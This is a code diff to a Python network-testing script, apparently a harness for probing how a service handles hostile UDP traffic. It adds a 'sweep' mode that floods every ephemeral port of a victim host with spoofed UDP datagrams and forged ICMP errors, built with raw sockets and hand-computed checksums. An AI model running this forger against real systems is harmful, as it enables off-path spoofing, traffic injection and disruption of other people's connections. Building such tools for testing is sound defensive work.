@@ -8,6 +8,9 @@ datagrams from a raw socket, many source ports — and prints what came back as 
     python hostile_peer.py group GROUP PORT --iface IF     (a multicast or, with --broadcast, a broadcast)
     python hostile_peer.py ports HOST PORT N                (N datagrams, each from a new source port)
     python hostile_peer.py dns HOST PORT NAME --rate R --seconds S   (bytes in and out, answers)
+    python hostile_peer.py sweep TARGET VICTIM --reply-from P,P --icmp-for P:T/C[@SENDER] --seconds S
+        (an off-path forger: for S seconds, to every ephemeral port of VICTIM, datagrams "from"
+        TARGET:P and ICMP errors "about" TARGET:P, quoting a datagram it can only guess; IPv4)
 """
 
 from __future__ import annotations
@@ -17,6 +20,7 @@ import json
 import os
 import random
 import socket
+import struct
 import sys
 import time
 from pathlib import Path
@@ -64,6 +68,49 @@ def forge(args: argparse.Namespace) -> dict[str, object]:
             if args.pace and n % args.pace == 0:
                 time.sleep(0.001)
     return {"sent": args.count}
+
+
+def sweep(args: argparse.Namespace) -> dict[str, object]:
+    low, high = 32768, 60999  # Linux's default ip_local_port_range: where the prober's port is
+    replies = [int(p) for p in args.reply_from.split(",") if p]
+    errors = []
+    for item in filter(None, args.icmp_for.split(",")):
+        port, _, rest = item.partition(":")
+        kind, _, sender = rest.partition("@")
+        icmp_type, _, code = kind.partition("/")
+        errors.append((int(port), int(icmp_type), int(code), sender or args.target))
+    packets = 0
+    deadline = time.monotonic() + args.seconds
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+        while time.monotonic() < deadline:
+            for port in range(low, high + 1):
+                for source in replies:
+                    raw.sendto(ip_udp_packet(args.target, source, args.victim, port, b"forged"), (args.victim, 0))
+                    packets += 1
+                for about, icmp_type, code, sender in errors:
+                    quoted = ip_udp_packet(args.victim, port, args.target, about, bytes(8))[:36]  # a guessed nonce
+                    raw.sendto(icmp_packet(sender, args.victim, icmp_type, code, quoted), (args.victim, 0))
+                    packets += 1
+                if time.monotonic() >= deadline:
+                    break
+    return {"sent": packets}
+
+
+def icmp_packet(src: str, dst: str, icmp_type: int, code: int, quoted: bytes) -> bytes:
+    """An IPv4 ICMP error from ``src`` to ``dst`` quoting ``quoted`` (an IP header and the start of its payload)."""
+    def checksum(data: bytes) -> int:
+        data += b"\0" * (len(data) % 2)
+        total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+        while total >> 16:
+            total = (total & 0xFFFF) + (total >> 16)
+        return ~total & 0xFFFF
+
+    body = struct.pack("!BBHI", icmp_type, code, 0, 0) + quoted
+    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
+    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0, 64, socket.IPPROTO_ICMP, 0,
+                         socket.inet_aton(src), socket.inet_aton(dst))
+    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
+    return header + body
 
 
 def send(args: argparse.Namespace) -> dict[str, object]:
@@ -182,8 +229,15 @@ def main() -> None:
     p.add_argument("--rate", type=float, default=10)
     p.add_argument("--seconds", type=float, default=3)
     p.add_argument("--source")
+    p = sub.add_parser("sweep")
+    p.add_argument("target")
+    p.add_argument("victim")
+    p.add_argument("--reply-from", default="")
+    p.add_argument("--icmp-for", default="")
+    p.add_argument("--seconds", type=float, default=3)
     args = parser.parse_args()
-    result = {"ask": ask, "send": send, "forge": forge, "group": group, "ports": ports, "dns": dns_load}[args.cmd](args)
+    result = {"ask": ask, "send": send, "forge": forge, "group": group, "ports": ports, "dns": dns_load,
+              "sweep": sweep}[args.cmd](args)
     print(json.dumps(result), flush=True)
     os._exit(0)
 
